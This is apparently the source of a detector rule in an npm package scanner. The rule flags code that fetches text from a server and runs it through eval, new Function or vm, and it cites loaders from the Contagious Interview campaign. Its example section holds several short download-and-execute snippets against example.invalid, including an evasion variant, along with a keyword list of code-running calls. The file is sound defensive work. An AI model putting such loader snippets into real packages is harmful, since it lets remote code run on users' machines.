import { HANDED_EVAL } from "../behaviour/marks.ts";
import { deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import { isBundle, nearby, runningDeeds } from "./_near.ts";
import { scriptsWith } from "./_npm.ts";
import { isLate, sight } from "./_sight.ts";

const RUNS = [...HANDED_EVAL, "eval(", "function(", "inthiscontext", "innewcontext", "vm.", "_compile"];

export const runsFetchedCode: Detector = {
  id: "runs-fetched-code",
  title: "Fetches text from a server and evaluates text right beside it",
  severity: "critical",
  ecosystems: ["npm"],
  points: 5.4,
  class: "threat",
  group: "download-and-run",
  why: `Close to a request stands \`eval\`, \`new Function\` or \`vm\` with something that is not a constant: the answer's handler runs what came.
Loaders of the Contagious Interview campaign are a few lines of this shape, often with a field of a JSON answer.

Bundles hold requests and \`Function\` far apart; there both have to be a few hundred characters from each other.`,
  literals: RUNS,
  *detect(tree) {
    for (const file of scriptsWith(tree, RUNS)) {
      const runs = runningDeeds(file).filter((deed) => deed.act === "run-code");
      const pair = runs.length === 0 ? undefined : nearby(file, deedsOf(file, "http", "socket"), runs);
      if (pair === undefined) continue;
      const says =
        `${pair.then.what} evaluates text beside ${pair.first.what} ${pair.first.text.slice(0, 100)}`.trimEnd();
      const late = isLate(file);
      yield sight(file, pair.then.offset, says, { share: (late ? 0.6 : 1) * (isBundle(file) ? 0.5 : 1) });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: {
          "index.js":
            "const https = require('https');\nhttps.get('https://example.invalid/p', (res) => {\n  let d = '';\n  res.on('data', (c) => (d += c));\n  res.on('end', () => new Function('require', d)(require));\n});\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "index.js":
            "const axios = require('axios');\naxios.get('https://example.invalid').then((r) => { eval(r.data); });\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: {
          "index.js":
            "const https = require('https');\nhttps.get('https://example.invalid', show);\nnew Function('return this')();\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "index.mjs": `import vm from 'node:vm';\nconst t = await fetch(\`https://example.invalid/\${id}\`).then((r) => r.text());\nvm.runInThisContext(t);\n`,
        },
      },
    ],
  },
};
